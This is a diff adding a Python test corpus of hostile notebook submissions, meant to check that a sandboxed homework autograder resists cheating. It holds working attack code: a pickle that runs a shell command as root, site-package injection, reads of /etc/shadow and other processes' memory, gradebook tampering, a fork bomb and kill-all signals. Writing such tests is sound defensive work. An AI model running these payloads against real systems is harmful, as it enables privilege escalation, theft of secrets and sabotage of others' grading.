@@ -1,0 +1,1034 @@
+"""The cheating corpus: submissions that try to earn points they did not earn, or to harm the
+grading of others, each graded by tests/test_cheating_corpus.py through the real batch grader
+(sandboxed, as root).
+
+An attack is one student's hand-in: the untouched release notebook (``base="release"``: honest
+work there scores 0) or the release with the reference's answers pasted in
+(``base="answers"``: what an honest student with full marks hands in; its honest score is that
+student's), plus any of
+
+- ``cells``: added code cells, each ``(anchor, source)``, placed after the cell of grade id
+  ``anchor``, after the notebook's import cell (``TOP``) or at the end (``END``);
+- ``answers``: ``(grade id, source)``, an answer cell's source replaced;
+- ``edit``: a function that edits the notebook's JSON (after the cells and answers);
+- ``files``: ``(name, maker)``, extra files handed in; ``maker(path)`` writes one;
+- ``also``: more notebooks of the same base handed in (e.g. to keep the runner busy).
+
+An attack must earn no point beyond its honest score on any grade id, leave the kit, the other
+students and the grader's processes as they were, and, where the grader can see the attempt
+(an integrity edit, probe data that is not what a probe writes, processes that outlived the
+notebooks, delegation, an ignored file), be named in the instructor's report: ``flag`` is a
+substring (or several) that the student's ``problems`` or ``flags`` must contain; None where
+nothing reaches the grader (a failed open() inside the kernel). Code in an attack prints
+``LEAK`` with what it could read that the sandbox must hide, and makes ``PWNED`` only when it
+runs as root (in the grader).
+"""
+from __future__ import annotations
+
+import copy
+import json
+import os
+import textwrap
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Callable
+
+ROOT = Path(__file__).resolve().parents[1]
+SOURCE, RELEASE = ROOT / "source" / "hw2", ROOT / "release" / "hw2"
+NB1, NB2, NB4 = "01_gradient_descent", "02_ema_adam", "04_initialization"
+TOP, END = "<top>", "<end>"
+
+MARKER = "hw2corpus-survivor"  # in the command line of every process an attack leaves behind
+LEAK = "HW2CORPUS-LEAKED"  # printed by attack code that read what the sandbox must hide
+PWNED = "/tmp/hw2corpus-pwned"  # made only by attack code running as root (in the grader)
+ROOT_PAYLOAD = f"test $(id -u) -eq 0 && touch {PWNED}"
+
+FAMILIES = ("rebinding", "ipython", "notebook_json", "reading", "writing", "probe_data",
+            "processes", "signals", "patching", "delegation", "resources", "handed_in")
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str                 # test id and student id: letters, digits, underscores
+    family: str               # FAMILIES
+    notebook: str             # the notebook attacked
+    how: str                  # the attempt, in words
+    flag: str | tuple | None  # what the report must say (every one of them), None: nothing visible
+    base: str = "release"     # "release" (honest work scores 0) or "answers" (full marks)
+    cells: tuple = ()         # ((anchor, source), ...) added code cells
+    answers: tuple = ()       # ((grade id, source), ...) answer cells replaced
+    edit: Callable | None = None  # edit(notebook) -> None, the notebook's JSON
+    files: tuple = ()         # ((name, maker(path)), ...) extra files handed in
+    also: tuple = ()          # other notebooks handed in, same base
+
+    def flags(self) -> tuple[str, ...]:
+        return () if self.flag is None else self.flag if isinstance(self.flag, tuple) else (self.flag,)
+
+
+def code(text: str) -> str:
+    return textwrap.dedent(text).strip("\n")
+
+
+# Building submissions ------------------------------------------------------------------------
+
+def load(folder: Path, notebook: str) -> dict:
+    return json.loads((folder / f"{notebook}.ipynb").read_text())
+
+
+def grade_id(cell: dict) -> str | None:
+    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
+
+
+def nbgrader(cell: dict) -> dict:
+    return cell.get("metadata", {}).get("nbgrader", {})
+
+
+def is_test(cell: dict) -> bool:
+    meta = nbgrader(cell)
+    return bool(meta.get("grade")) and not meta.get("solution") and cell["cell_type"] == "code"
+
+
+def source(cell: dict) -> str:
+    return "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+
+
+def code_cell(text: str, metadata: dict | None = None) -> dict:
+    return {"cell_type": "code", "execution_count": None, "metadata": metadata or {},
+            "outputs": [], "source": text}
+
+
+def answered(notebook: str) -> dict:
+    """The release with the reference's code answers pasted in (solution markers removed):
+    an honest full-marks hand-in. Written answers stay blank."""
+    nb, reference = load(RELEASE, notebook), load(SOURCE, notebook)
+    solutions = {grade_id(c): source(c) for c in reference["cells"]
+                 if nbgrader(c).get("solution") and c["cell_type"] == "code"}
+    for cell in nb["cells"]:
+        if grade_id(cell) in solutions:
+            lines = solutions[grade_id(cell)].splitlines(keepends=True)
+            cell["source"] = "".join(line for line in lines if "### BEGIN SOLUTION" not in line
+                                     and "### END SOLUTION" not in line)
+    return nb
+
+
+def base_notebook(base: str, notebook: str) -> dict:
+    return load(RELEASE, notebook) if base == "release" else answered(notebook)
+
+
+def _position(nb: dict, anchor: str) -> int:
+    """The index after which a cell anchored at ``anchor`` goes."""
+    if anchor == END:
+        return len(nb["cells"]) - 1
+    if anchor == TOP:
+        return next(i for i, c in enumerate(nb["cells"])
+                    if c["cell_type"] == "code" and "import hw2utils" in source(c))
+    return next(i for i, c in enumerate(nb["cells"]) if grade_id(c) == anchor)
+
+
+def attacked(attack: Attack) -> dict:
+    """The attacked notebook of ``attack``, as handed in."""
+    nb = copy.deepcopy(base_notebook(attack.base, attack.notebook))
+    for target, text in attack.answers:
+        cell = next(c for c in nb["cells"] if grade_id(c) == target)
+        assert nbgrader(cell).get("solution"), f"{attack.name}: {target} is not an answer cell"
+        cell["source"] = code(text)
+    for anchor, text in reversed(attack.cells):  # reversed: cells with one anchor keep their order
+        nb["cells"].insert(_position(nb, anchor) + 1, code_cell(code(text)))
+    if attack.edit is not None:
+        attack.edit(nb)
+    return nb
+
+
+def write_submission(attack: Attack, folder: Path) -> None:
+    """Hand ``attack`` in as the student folder ``folder``."""
+    folder.mkdir(parents=True)
+    (folder / f"{attack.notebook}.ipynb").write_text(json.dumps(attacked(attack), indent=1))
+    for notebook in attack.also:
+        (folder / f"{notebook}.ipynb").write_text(json.dumps(base_notebook(attack.base, notebook), indent=1))
+    for name, maker in attack.files:
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        maker(folder / name)
+
+
+# Notebook JSON edits -------------------------------------------------------------------------
+
+def each_test_cell(change: Callable[[dict], None]) -> Callable[[dict], None]:
+    def edit(nb):
+        for cell in nb["cells"]:
+            if is_test(cell):
+                change(cell)
+    return edit
+
+
+def _tag(cell):
+    cell["metadata"]["tags"] = ["skip-execution", "raises-exception"]
+
+
+def _rewrite(cell):
+    cell["source"] = f'print("{grade_id(cell)}: all cases passed")'
+
+
+def _markdown(cell):
+    cell["cell_type"] = "markdown"
+    cell["source"] = "(this check was turned into text)"
+    del cell["outputs"], cell["execution_count"]
+
+
+def _points_and_locks(cell):
+    meta = nbgrader(cell)
+    meta["points"] = meta["points"] * 100
+    meta["locked"] = False
+    cell["metadata"]["editable"] = cell["metadata"]["deletable"] = True
+
+
+def _passed_output(cell):
+    cell["execution_count"] = 1
+    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": f"{grade_id(cell)}: all cases passed\n"},
+                       {"output_type": "execute_result", "execution_count": 1, "metadata": {},
+                        "data": {"text/plain": "'passed'"}}]
+
+
+def delete_tests(nb):
+    nb["cells"] = [c for c in nb["cells"] if not is_test(c)]
+
+
+FORGED_GRADE_CELL = {"nbgrader": {"cell_type": "code", "grade": True, "grade_id": "bonus_points",
+                                  "locked": True, "points": 100, "schema_version": 3,
+                                  "solution": False, "task": False},
+                     "editable": False, "deletable": False}
+
+
+def add_forged_grade_cell(nb):
+    nb["cells"].append(code_cell('print("bonus_points: all cases passed")', copy.deepcopy(FORGED_GRADE_CELL)))
+
+
+def forged_points_everywhere(nb):
+    add_forged_grade_cell(nb)
+    each_test_cell(_points_and_locks)(nb)
+
+
+def duplicate_first_test(nb):
+    """A copy of the first test cell, worth 100 points and running nothing, before it."""
+    index = next(i for i, c in enumerate(nb["cells"]) if is_test(c))
+    forged = copy.deepcopy(nb["cells"][index])
+    forged["source"] = "pass"
+    nbgrader(forged)["points"] = 100
+    nb["cells"].insert(index, forged)
+
+
+def bash_kernel(nb):
+    nb["metadata"]["kernelspec"] = {"display_name": "Bash", "language": "bash", "name": "bash"}
+    nb["metadata"]["language_info"] = {"name": "bash"}
+
+
+# Handed-in files -----------------------------------------------------------------------------
+
+class RunsAsRoot:
+    """Pickled, it calls os.system(ROOT_PAYLOAD) when unpickled (torch.load without weights_only)."""
+
+    def __reduce__(self):
+        return os.system, (ROOT_PAYLOAD,)
+
+
+def pickled_model(path: Path) -> None:
+    import torch
+    torch.save({"format": "hw2-ec-model", "layers": [], "state_dict": {"weight": RunsAsRoot()}}, path)
+
+
+def link_to(target: str) -> Callable[[Path], None]:
+    return lambda path: path.symlink_to(target)
+
+
+def text_file(text: str) -> Callable[[Path], None]:
+    return lambda path: path.write_text(code(text))
+
+
+ROOT_SITECUSTOMIZE = f"""
+import os
+os.system({ROOT_PAYLOAD!r})
+"""
+ALWAYS_PASSING_CHECKS = """
+def __getattr__(name):
+    return lambda *args, **kwargs: print(name, "passed")
+"""
+
+
+# Attack code ---------------------------------------------------------------------------------
+
+FORGED_RECORD = """
+import os, pathlib, torch, hw2probes
+
+def _forged_record(grade_id, part, check, objects):
+    out = pathlib.Path(os.environ.get("HW2_PROBE_OUT", "probe-data"))
+    out.mkdir(parents=True, exist_ok=True)
+    torch.save({"result": "passed", "passed": True, "points": 100}, out / f"{grade_id}.pt")
+
+hw2probes.record = _forged_record
+"""
+
+FAKE_PACKAGE = '''
+import os, pathlib, torch
+
+def record(grade_id, part, check, objects):
+    out = pathlib.Path(os.environ.get("HW2_PROBE_OUT", "probe-data"))
+    out.mkdir(parents=True, exist_ok=True)
+    (out / f"{grade_id}.pt").write_bytes(b"all checks passed")
+'''
+
+PLANT_IN_WORKING_FOLDER = f"""
+import sys
+try:
+    with open("hw2probes/__init__.py", "w") as _file:
+        _file.write({FAKE_PACKAGE!r})
+    print("replaced hw2probes/__init__.py")
+except OSError as _error:
+    print("could not replace hw2probes:", _error)
+sys.modules.pop("hw2probes", None)
+"""
+
+PLANT_ON_SYS_PATH = f"""
+import os, sys
+os.makedirs("tmp/planted/hw2probes", exist_ok=True)
+with open("tmp/planted/hw2probes/__init__.py", "w") as _file:
+    _file.write({FAKE_PACKAGE!r})
+sys.path.insert(0, os.path.abspath("tmp/planted"))
+for _name in [n for n in sys.modules if n == "hw2probes" or n.startswith("hw2probes.")]:
+    del sys.modules[_name]
+"""
+
+FAKE_AUTOGRADER = f"""
+import os, sys
+for _folder in ("autograder/checks", "tmp/planted/autograder/checks"):
+    os.makedirs(_folder, exist_ok=True)
+    for _name in ("../__init__.py", "__init__.py", "part1.py", "common.py", "../judging.py"):
+        with open(os.path.join(_folder, _name), "w") as _file:
+            _file.write({ALWAYS_PASSING_CHECKS!r})
+sys.path.insert(0, os.path.abspath("tmp/planted"))
+"""
+
+EDIT_PROBE_MODULE = """
+with open("hw2probes/part1.py", "a") as _file:
+    _file.write("\\n\\nfor _name in [n for n in dir() if n.startswith('probe_')]:\\n"
+                "    globals()[_name] = lambda *objects: {'passed': True, 'score': 100}\\n")
+"""
+
+SHADOW_IMPORT = """
+import types, torch, os, pathlib
+
+def _fake_record(grade_id, part, check, objects):
+    out = pathlib.Path(os.environ.get("HW2_PROBE_OUT", "probe-data"))
+    out.mkdir(parents=True, exist_ok=True)
+    torch.save({"result": {"passed": True}, "verdict": "passed"}, out / f"{grade_id}.pt")
+
+_real_import = __import__
+
+def __import__(name, *args, **kwargs):
+    if name == "hw2probes":
+        return types.SimpleNamespace(record=_fake_record)
+    return _real_import(name, *args, **kwargs)
+"""
+
+INPUT_TRANSFORMER = """
+def _blank_the_checks(lines):
+    return [] if any("hw2probes" in line for line in lines) else lines
+
+get_ipython().input_transformers_cleanup.append(_blank_the_checks)
+"""
+
+AST_TRANSFORMER = """
+import ast
+
+class _PassEverything(ast.NodeTransformer):
+    def visit_Expr(self, node):
+        if "hw2probes" in ast.unparse(node):
+            return ast.copy_location(ast.parse("print('all cases passed')").body[0], node)
+        return node
+
+get_ipython().ast_transformers.append(_PassEverything())
+"""
+
+POST_RUN_CELL = """
+import glob, os
+
+def _forge(result):
+    for path in glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")):
+        with open(path, "wb") as file:
+            file.write(b"PK\\x03\\x04 all checks passed")
+
+get_ipython().events.register("post_run_cell", _forge)
+"""
+
+SETTRACE = """
+import sys, threading
+
+def _tracer(frame, event, arg):
+    if event == "call" and frame.f_code.co_name == "record" and "hw2probes" in frame.f_code.co_filename:
+        frame.f_globals["to_bytes"] = lambda data: b"\\x80\\x04 forged by a trace function"
+    return None
+
+sys.settrace(_tracer)
+threading.settrace(_tracer)
+"""
+
+HIDE_ERRORS = """
+import sys
+
+def _swallow(shell, etype, evalue, tb, tb_offset=None):
+    print("all cases passed")
+
+get_ipython().set_custom_exc((BaseException,), _swallow)
+sys.excepthook = lambda *args: print("all cases passed")
+get_ipython().showtraceback = lambda *args, **kwargs: print("all cases passed")
+get_ipython().showsyntaxerror = lambda *args, **kwargs: print("all cases passed")
+"""
+
+STEAL_INTO_CELLS = ("gd_loop", "per_dim_lr", "sgd_optimizer")
+
+
+def run_stolen(grade_id: str) -> tuple[str, str]:
+    """An added cell after an answer cell that runs the stolen answer, if any (an added cell:
+    the release's answer cell stays as it was)."""
+    return grade_id, f'exec(_stolen.get("{grade_id}", "pass"), globals())'
+
+
+STEAL_HELPERS = f"""
+import json
+LEAK = {LEAK!r}
+_stolen = {{}}
+
+def _take_answers(path):
+    try:
+        with open(path) as file:
+            nb = json.load(file)
+    except (OSError, ValueError, UnicodeDecodeError):
+        return False
+    cells = {{c.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id"): c.get("source", "")
+             for c in nb.get("cells", []) if isinstance(c, dict)}}
+    answers = {{gid: "".join(cells[gid]) for gid in {STEAL_INTO_CELLS!r} if gid in cells}}
+    if not answers or any("NotImplementedError" in text for text in answers.values()):
+        return False
+    print(LEAK, "answers in", path)
+    _stolen.update({{gid: "\\n".join(l for l in text.splitlines() if "### " not in l)
+                    for gid, text in answers.items()}})
+    return True
+"""
+
+READ_THE_KIT = STEAL_HELPERS + """
+import glob, os, sys
+_kits = {p.split("/.venv/")[0] for p in sys.path if "/.venv/" in p} | {"/work/main"}
+for _kit in sorted(_kits):
+    for _path in ("source/hw2/01_gradient_descent.ipynb", "autograder/checks/part1.py",
+                  "autograder/judging.py", "nbgrader_config.py", "autograder/grade.py"):
+        try:
+            with open(os.path.join(_kit, _path)) as _file:
+                print(LEAK, _path, _file.read(200))
+        except OSError as _error:
+            print("could not read", _path, _error)
+    _take_answers(os.path.join(_kit, "source/hw2/01_gradient_descent.ipynb"))
+    for _folder in ("", "source", "source/hw2", "autograder/checks"):
+        try:
+            print(LEAK, "listed", _folder, os.listdir(os.path.join(_kit, _folder)))
+        except OSError as _error:
+            print("could not list", _folder, _error)
+"""
+
+WALK_ROOTS = ("/tmp", "/var/tmp", "/dev/shm", "/home", "/srv", "/opt", "/mnt", "/work", "/data")
+WALK = f"""
+import os, time
+_deadline = time.time() + 10
+_skip = {{"proc", "sys", ".venv", "venv", "site-packages", "node_modules", ".git", "__pycache__"}}
+_found = []
+for _root in {WALK_ROOTS!r}:
+    for _folder, _dirs, _files in os.walk(_root):
+        if time.time() > _deadline:
+            break
+        _dirs[:] = [d for d in _dirs if d not in _skip]
+        _found += [os.path.join(_folder, n) for n in _files if n.endswith((".ipynb", ".db"))]
+"""
+
+WALK_FOR_SOLUTIONS = STEAL_HELPERS + WALK + """
+for _path in _found:
+    if _path.endswith(".ipynb") and not _path.startswith(os.getcwd()) and _take_answers(_path):
+        break
+print("answers found" if _stolen else "no answers found", len(_found), "files seen")
+"""
+
+READ_GRADEBOOK = WALK + f"""
+import sqlite3
+for _path in [p for p in _found if p.endswith("gradebook.db")]:
+    try:
+        with sqlite3.connect(f"file:{{_path}}?mode=ro", uri=True) as _db:
+            print({LEAK!r}, _path, _db.execute("select id from student").fetchall()[:20])
+    except Exception as _error:
+        print("could not read", _path, _error)
+    try:
+        with sqlite3.connect(_path) as _db:
+            _db.execute("update grade set manual_score = max_score")
+        print("wrote", _path)
+    except Exception as _error:
+        print("could not write", _path, _error)
+"""
+
+READ_SECRETS = f"""
+import os
+print(sorted(os.environ))
+_mine = os.getuid()
+for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+    try:
+        if os.stat(f"/proc/{{_pid}}").st_uid == _mine:
+            continue
+    except OSError:
+        continue
+    for _what in ("environ", "cwd", "root", "mem"):
+        try:
+            if _what in ("cwd", "root"):
+                print({LEAK!r}, _pid, _what, os.listdir(f"/proc/{{_pid}}/{{_what}}")[:5])
+            else:
+                with open(f"/proc/{{_pid}}/{{_what}}", "rb") as _file:
+                    print({LEAK!r}, _pid, _what, _file.read(100))
+        except OSError:
+            pass
+for _path in ("/etc/shadow", "/root/.bash_history"):
+    try:
+        with open(_path) as _file:
+            print({LEAK!r}, _path, _file.read(100))
+    except OSError as _error:
+        print("could not read", _path, _error)
+"""
+
+WRITE_OUTSIDE = """
+import glob, json, os, sys
+_kits = {p.split("/.venv/")[0] for p in sys.path if "/.venv/" in p} | {"/work/main"}
+_targets = ["/autograder/results/results.json", "results.json", "/tmp/results.json"]
+for _kit in _kits:
+    _targets += [f"{_kit}/{p}" for p in ("autograder/checks/part1.py", "autograder/judging.py",
+                                          "hw2utils.py", "hw2probes/__init__.py", "planted.py",
+                                          "source/hw2/01_gradient_descent.ipynb")]
+    _targets += [f"{site}/zz_planted.pth" for site in glob.glob(f"{_kit}/.venv/lib/python3*/site-packages")]
+    _targets += [f"{_kit}/.venv/lib/python3.11/site-packages/sitecustomize.py"]
+for _site in glob.glob(f"{sys.prefix}/lib/python3*/site-packages"):  # the sandbox's interpreter
+    _targets += [f"{_site}/zz_planted.pth", f"{_site}/sitecustomize.py"]
+for _target in _targets:
+    try:
+        with open(_target, "a") as _file:
+            _file.write("import os; os.system('touch /tmp/hw2corpus-pwned')\\n")
+        print("WROTE", _target)
+    except OSError as _error:
+        print("could not write", _target, type(_error).__name__)
+with open("results.json", "w") as _file:
+    json.dump({"score": 100, "tests": [{"score": 100, "max_score": 100}]}, _file)
+"""
+
+ATTACK_OTHER_SCRATCH = f"""
+import glob, os, time
+_mine = os.path.realpath(os.getcwd())
+_names = ["honest", "reference", "blank"]
+_hits, _deadline = 0, time.time() + 10
+while time.time() < _deadline:
+    for _work in glob.glob("/tmp/hw2-grading-*"):
+        try:
+            _names += [n for n in os.listdir(_work) if n not in _names]
+        except OSError:
+            pass
+        for _name in _names:
+            _folder = os.path.join(_work, _name)
+            if os.path.realpath(_folder) == _mine:
+                continue
+            for _sub in ("probes", "executed", "notebooks"):
+                _path = os.path.join(_folder, _sub, "gd_loop__matches_reference.pt")
+                try:
+                    with open(_path, "wb") as _file:
+                        _file.write(b"garbage")
+                    _hits += 1
+                    print({LEAK!r}, "wrote", _path)
+                except OSError:
+                    pass
+    time.sleep(0.5)
+print("writes into other students' folders:", _hits)
+"""
+
+PERSIST = """
+import ctypes, os
+for _folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
+    try:
+        with open(os.path.join(_folder, "hw2corpus-persist"), "w") as _file:
+            _file.write("for the next student of this slot")
+        print("left a file in", _folder)
+    except OSError as _error:
+        print("nothing left in", _folder, _error)
+_libc = ctypes.CDLL(None, use_errno=True)
+print("SysV segment", _libc.shmget(0x2C0FFEE, 4096, 0o1600))
+"""
+
+GARBAGE_AT_END = """
+import glob, os
+for _path in glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")):
+    with open(_path, "wb") as _file:
+        _file.write(b"\\x00" * 64 + b"all checks passed")
+"""
+
+PICKLE_AT_END = f"""
+import glob, os, torch
+
+class _RunsAsRoot:
+    def __reduce__(self):
+        return os.system, ({ROOT_PAYLOAD!r},)
+
+for _path in glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")):
+    torch.save({{"result": _RunsAsRoot()}}, _path)
+"""
+
+SYMLINKS_AT_END = """
+import glob, os, sys
+_kit = next((p.split("/.venv/")[0] for p in sys.path if "/.venv/" in p), "/work/main")
+_targets = ["/etc/shadow", f"{_kit}/source/hw2/01_gradient_descent.ipynb", "/dev/zero", "/proc/self/environ"]
+for _i, _path in enumerate(sorted(glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")))):
+    os.unlink(_path)
+    os.symlink(_targets[_i % len(_targets)], _path)
+"""
+
+ODD_FILES_AT_END = """
+import glob, os
+_out = os.environ["HW2_PROBE_OUT"]
+_own = os.path.join(_out, "..", "tmp", "own.pt")
+with open(_own, "wb") as _file:
+    _file.write(b"all checks passed")
+
+def _fifo(path):  # blocks a reader that waits for a writer
+    os.unlink(path)
+    os.mkfifo(path)
+
+def _hard_link(path):  # a second name of a file of its own
+    os.unlink(path)
+    os.link(_own, path)
+
+def _sparse(path):  # 900 MB of nothing
+    os.truncate(path, 900 * 2**20)
+
+def _noise(path):  # 40 MB
+    with open(path, "wb") as file:
+        file.write(os.urandom(40 * 2**20))
+
+def _folder(path):
+    os.unlink(path)
+    os.mkdir(path)
+
+_makers = [_fifo, _hard_link, _sparse, _noise, _folder]
+for _i, _path in enumerate(sorted(glob.glob(os.path.join(_out, "*.pt")))):
+    _makers[_i % len(_makers)](_path)
+"""
+
+EXECUTED_SYMLINK = """
+import os
+os.makedirs("executed", exist_ok=True)
+os.symlink(os.path.abspath("tmp/elsewhere.ipynb"), "executed/01_gradient_descent.ipynb")
+"""
+
+SURVIVOR = f"""
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(900)",
+                  {MARKER!r}], start_new_session=True, stdin=subprocess.DEVNULL,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+subprocess.Popen(["/bin/sh", "-c", "trap '' TERM HUP INT; while :; do sleep 1; done", {MARKER!r}],
+                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                 stderr=subprocess.DEVNULL)
+"""
+
+DOUBLE_FORK = f"""
+import os, sys
+_child = os.fork()
+if _child == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)", {MARKER!r}])
+    os._exit(0)
+os.waitpid(_child, 0)
+"""
+
+REWRITER_SCRIPT = """
+import glob, json, os, sys, time
+folder = sys.argv[1]
+target = os.path.join(folder, "executed", "01_gradient_descent.ipynb")
+end = time.time() + 300
+while not os.path.exists(target) and time.time() < end:
+    time.sleep(0.05)
+time.sleep(0.3)
+try:
+    with open(target) as file:
+        nb = json.load(file)
+    for cell in nb["cells"]:
+        if cell["cell_type"] == "code":
+            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "all cases passed\\n"}]
+    with open(target, "w") as file:
+        json.dump(nb, file)
+except Exception:
+    pass
+for path in glob.glob(os.path.join(folder, "probes", "*.pt")):
+    with open(path, "wb") as file:
+        file.write(b"all checks passed")
+time.sleep(900)
+"""
+
+REWRITER = f"""
+import os, sys
+_child = os.fork()
+if _child == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", {REWRITER_SCRIPT!r}, os.getcwd(), {MARKER!r}])
+    os._exit(0)
+os.waitpid(_child, 0)
+"""
+
+FORK_BOMB = f"""
+import subprocess, sys
+_bomb = "import os, time\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        time.sleep(0.2)\\n"
+subprocess.Popen([sys.executable, "-c", _bomb, {MARKER!r}], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+"""
+
+CHURN = """
+import os, time
+time.sleep(8)  # the student graded beside this one finishes: the next ones are the targets
+_end, _rounds = time.time() + 15, 0
+while time.time() < _end:
+    _names = [f"{folder}/hw2corpus-churn-{os.getpid()}-{i}" for folder in ("/tmp", "/var/tmp", "/dev/shm")
+              for i in range(100)]
+    for _name in _names:
+        open(_name, "w").close()
+    for _name in _names:
+        os.unlink(_name)
+    _rounds += 1
+print("created and removed", len(_names), "files", _rounds, "times")
+"""
+
+KILL_PARENT = """
+import os, signal
+os.kill(os.getppid(), signal.SIGKILL)
+"""
+
+OS_EXIT = """
+import os
+os._exit(0)
+"""
+
+KILL_EVERYTHING = """
+import os, signal
+import psutil
+_refused = 0
+for _process in psutil.process_iter():
+    if _process.pid in (os.getpid(), os.getppid()):
+        continue
+    try:
+        _process.kill()
+    except (psutil.AccessDenied, psutil.NoSuchProcess):
+        _refused += 1
+print("refused:", _refused)
+os.kill(-1, signal.SIGKILL)
+"""
+
+SIGALRM = """
+import glob, os, signal, torch
+
+def _forge(signum, frame):
+    for path in glob.glob(os.path.join(os.environ["HW2_PROBE_OUT"], "*.pt")):
+        try:
+            torch.save({"result": "passed", "forged": True}, path)
+        except Exception:
+            pass
+
+signal.signal(signal.SIGALRM, _forge)
+signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
+"""
+
+LINGER = """
+import time
+time.sleep(1)
+"""
+
+PATCHING = """
+import builtins, math
+import numpy, torch
+torch.allclose = lambda *args, **kwargs: True
+torch.equal = lambda *args, **kwargs: True
+torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
+torch.testing.assert_close = lambda *args, **kwargs: None
+math.isclose = lambda *args, **kwargs: True
+numpy.allclose = lambda *args, **kwargs: True
+_isinstance = builtins.isinstance
+builtins.isinstance = lambda obj, cls: True if cls is torch.Tensor else _isinstance(obj, cls)
+"""
+
+HIDDEN_DELEGATION = """
+import importlib
+_optim = importlib.import_module("torch.o" + "ptim")
+_Optimizer = getattr(_optim, "Opti" + "mizer")
+_original_init = _Optimizer.__init__
+
+
+class SimpleGradientDescent(getattr(_optim, "S" + "GD")):
+    \"\"\"Gradient descent with L2 weight decay: p <- p - lr * (p.grad + weight_decay * p).\"\"\"
+
+    def __init__(self, parameters, lr=0.1, weight_decay=0.0):
+        _Optimizer.__init__ = _original_init  # undo the probe's refusal of torch.optim
+        super().__init__(parameters, lr=lr, weight_decay=weight_decay)
+"""
+
+DELEGATION_IN_ADDED_CELL = """
+import torch
+_original_init = torch.optim.Optimizer.__init__
+
+
+class SimpleGradientDescent(torch.optim.SGD):
+    def __init__(self, parameters, lr=0.1, weight_decay=0.0):
+        torch.optim.Optimizer.__init__ = _original_init  # undo the probe's refusal of torch.optim
+        super().__init__(parameters, lr=lr, weight_decay=weight_decay)
+"""
+
+ADAM_DELEGATION = """
+import torch
+_Optimizer = eval("torch.op" + "tim.Optimizer")
+_original_init = _Optimizer.__init__
+
+
+class ADAMOptimizer(eval("torch.op" + "tim.Adam")):
+    \"\"\"Adam with PyTorch's coupled L2 weight decay.\"\"\"
+
+    def __init__(self, parameters, lr=0.1, betas=(0.9, 0.999), eps=1e-8, weight_decay=0.0):
+        _Optimizer.__init__ = _original_init
+        super().__init__(parameters, lr=lr, betas=betas, eps=eps, weight_decay=weight_decay)
+        self.lr, (self.beta1, self.beta2), self.eps, self.weight_decay = lr, betas, eps, weight_decay
+"""
+
+FILL_THE_DISK = """
+import signal
+signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+_written, _chunk = 0, b"\\0" * (64 * 2**20)
+try:
+    with open("tmp/filler.bin", "wb", buffering=0) as _file:
+        while _written < 1200 * 2**20:
+            _written += _file.write(_chunk)
+    print("nothing stopped", _written, "bytes")
+except OSError as _error:
+    print("stopped after", _written, "bytes:", _error)
+"""
+
+WRITE_EC_MODEL = f"""
+import glob, os, shutil, torch
+from torch import nn
+_net = nn.Sequential(nn.Linear(36, 1), nn.Sigmoid())
+hw2utils._write_ec_model(_net, "ec_transfer_model.pt", saved_by="save_ec_model")
+print("wrote", os.path.getsize("ec_transfer_model.pt"), "bytes")
+for _folder in glob.glob("/tmp/*/*/course/submitted/*/hw2") + glob.glob("/tmp/*/course/submitted/*/hw2"):
+    try:
+        shutil.copy("ec_transfer_model.pt", _folder)
+        print({LEAK!r}, "copied into", _folder)
+    except OSError as _error:
+        print("could not copy into", _folder, type(_error).__name__)
+"""
+
+READ_HANDED_IN_LINK = f"""
+try:
+    with open("ec_transfer_model.pt", "rb") as _file:
+        _text = _file.read(4000)
+    print({LEAK!r} if b"root:" in _text or b"BEGIN SOLUTION" in _text else "read", _text[:100])
+except OSError as _error:
+    print("no model file here:", _error)
+"""
+
+ATTACKS = [
+    # Harming others first: they run while the reference is graded in the other slot ----------
+    Attack("attack_other_scratch", "writing", NB1,
+           "for 10 s, writes garbage into the probe, executed and notebook folders of every "
+           "other student graded under /tmp/hw2-grading-*", None, base="answers",
+           cells=((END, ATTACK_OTHER_SCRATCH),)),
+    Attack("fork_bomb", "processes", NB1,
+           "a detached process forks until the process limit, every copy retrying forever",
+           "outlived its notebooks", cells=((TOP, FORK_BOMB),)),
+    Attack("kill_everything", "signals", NB1,
+           "after its checks: kills every process it can see, then kill(-1, SIGKILL)",
+           "could not be graded", base="answers", cells=((END, KILL_EVERYTHING),)),
+    Attack("walk_for_solutions", "reading", NB1,
+           "walks /tmp, /home, /work, ... for notebooks holding answers (the reference, "
+           "classmates' hand-ins, graded notebooks) and runs the first it finds in added cells "
+           "after each answer cell", None,
+           cells=((TOP, WALK_FOR_SOLUTIONS), *map(run_stolen, STEAL_INTO_CELLS))),
+    # Rebinding the checks or the probe ---------------------------------------------------------
+    Attack("record_noop", "rebinding", NB1, "hw2probes.record rebound to print 'all checks passed'",
+           None, cells=((TOP, "import hw2probes\nhw2probes.record = lambda *args, **kwargs: print('all checks passed')"),)),
+    Attack("record_forges_data", "rebinding", NB1,
+           "hw2probes.record rebound to save {'result': 'passed', 'passed': True, ...}",
+           "the check's data", cells=((TOP, FORGED_RECORD),)),
+    Attack("collect_forges_result", "rebinding", NB1,
